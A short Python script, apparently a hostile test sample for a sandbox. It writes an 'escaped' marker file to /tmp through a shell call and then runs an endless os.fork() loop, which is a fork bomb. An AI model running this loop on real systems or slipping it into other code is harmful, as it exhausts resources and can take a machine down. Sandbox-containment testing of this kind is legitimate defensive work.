import os
import subprocess
try:
    subprocess.run(["/bin/sh", "-c", "echo escaped > /tmp/bugbot-hostile-escaped"])
except OSError:
    pass
while True:
    os.fork()
